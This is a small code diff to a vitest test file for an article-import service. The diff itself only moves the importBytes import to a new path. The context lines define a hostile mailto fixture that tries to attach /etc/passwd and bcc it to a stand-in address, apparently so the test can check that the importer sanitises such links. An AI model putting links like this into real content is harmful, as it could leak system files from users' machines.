@@ -4,7 +4,7 @@ import JSZip from 'jszip'
 import { describe, expect, it } from 'vitest'
 import type { BodyNode } from '../../../src/shared/article/body'
 import type { ArticleDocument } from '../../../src/shared/article/document'
-import { importBytes } from '../../../src/main/services/importFile'
+import { importBytes } from '../../../src/node/importFile'
 import { repoRoot } from '../../support/paths'
 
 const HOSTILE_MAILTO = 'mailto:desk@example.org?attach=/etc/passwd&cc=boss@x.example&bcc=spy@x.example&subject=Tip&body=Hello'
